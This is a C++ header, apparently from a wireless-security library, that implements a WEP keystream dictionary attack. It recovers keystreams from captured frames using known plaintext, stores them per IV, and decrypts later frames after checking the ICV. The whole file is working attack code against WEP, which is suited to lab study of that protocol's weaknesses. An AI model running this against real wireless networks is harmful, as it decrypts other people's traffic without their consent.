#pragma once

#include <functional>
#include <map>
#include <optional>

#include "wavelab/capture.hpp"
#include "wavelab/error.hpp"
#include "wavelab/wepcrypt.hpp"

namespace wavelab::attacks {

/// IV -> longest known keystream prefix for that IV.
class KeystreamTable {
 public:
  enum class Insert { Added, Extended, Unchanged, Conflict };

  /// Keeps the longer of two prefixes; prefixes that disagree on their
  /// overlap leave the table untouched.
  Insert insert(const Keystream& ks) {
    if (ks.bytes.empty()) return Insert::Unchanged;
    auto key = iv_to_u32(ks.iv);
    auto it = table_.find(key);
    if (it == table_.end()) {
      table_.emplace(key, ks.bytes);
      return Insert::Added;
    }
    Bytes& have = it->second;
    std::size_t overlap = std::min(have.size(), ks.bytes.size());
    if (!std::equal(have.begin(), have.begin() + static_cast<std::ptrdiff_t>(overlap), ks.bytes.begin()))
      return Insert::Conflict;
    if (ks.bytes.size() <= have.size()) return Insert::Unchanged;
    have = ks.bytes;
    return Insert::Extended;
  }

  void merge(const KeystreamTable& other) {
    for (const auto& [iv, bytes] : other.table_) insert(Keystream{iv_from_u32(iv), bytes});
  }

  std::optional<Keystream> find(const Iv& iv) const {
    auto it = table_.find(iv_to_u32(iv));
    if (it == table_.end()) return std::nullopt;
    return Keystream{iv, it->second};
  }

  std::size_t size() const { return table_.size(); }
  double coverage() const { return static_cast<double>(table_.size()) / static_cast<double>(1u << 24); }

  std::vector<Keystream> entries() const {
    std::vector<Keystream> out;
    for (const auto& [iv, bytes] : table_) out.push_back(Keystream{iv_from_u32(iv), bytes});
    return out;
  }

 private:
  std::map<std::uint32_t, Bytes> table_;
};

/// Returns the known plaintext prefix of a frame, if the attacker knows one.
/// A prefix as long as the whole payload also yields the ICV keystream.
using KnownPlaintextRule = std::function<std::optional<Bytes>(const Frame&)>;

/// Every data payload starts with the same known octets.
inline KnownPlaintextRule known_prefix_rule(Bytes prefix) {
  return [prefix = std::move(prefix)](const Frame& f) -> std::optional<Bytes> {
    if (f.ftype != FrameType::Data) return std::nullopt;
    return prefix;
  };
}

/// Frames sent to `dst` carry exactly `plaintext`, e.g. relays of payloads
/// the attacker itself pushed through the access point.
inline KnownPlaintextRule known_payload_rule(Mac dst, Bytes plaintext) {
  return [dst, plaintext = std::move(plaintext)](const Frame& f) -> std::optional<Bytes> {
    if (f.ftype != FrameType::Data || f.dst != dst) return std::nullopt;
    return plaintext;
  };
}

/// Known plaintext XOR ciphertext for one envelope.
inline std::optional<Keystream> keystream_from_known(const WepEnvelope& env, const Bytes& known) {
  const std::size_t n = env.payload_size();
  if (known.empty() || known.size() > n) return std::nullopt;
  if (known.size() == n) return Keystream{env.iv, xor_bytes(with_icv(known), env.ciphertext)};
  return Keystream{env.iv, xor_bytes(known, env.ciphertext)};
}

/// Passive: builds the table from WEP data frames the rule has plaintext for.
inline KeystreamTable build_keystream_dictionary(const Capture& capture, const KnownPlaintextRule& rule) {
  KeystreamTable table;
  for (const auto& r : capture) {
    if (!r.frame.is_wep()) continue;
    auto known = rule(r.frame);
    if (!known) continue;
    if (auto ks = keystream_from_known(r.frame.wep(), *known)) table.insert(*ks);
  }
  return table;
}

inline Bytes dictionary_decrypt(const KeystreamTable& table, const WepEnvelope& env) {
  auto ks = table.find(env.iv);
  if (!ks) throw Error(ErrorKind::IvUnknown, "no keystream recorded for this IV");
  if (ks->bytes.size() < env.ciphertext.size())
    throw Error(ErrorKind::PrefixTooShort, "known keystream covers " + std::to_string(ks->bytes.size()) + " of " +
                                               std::to_string(env.ciphertext.size()) + " octets");
  Bytes plain = xor_bytes(env.ciphertext, ks->bytes);
  std::size_t n = plain.size() - 4;
  auto icv = crc32_icv(ByteView(plain.data(), n));
  if (!std::equal(icv.begin(), icv.end(), plain.begin() + static_cast<std::ptrdiff_t>(n)))
    throw Error(ErrorKind::IcvMismatch, "table keystream does not match this frame");
  plain.resize(n);
  return plain;
}

}  // namespace wavelab::attacks
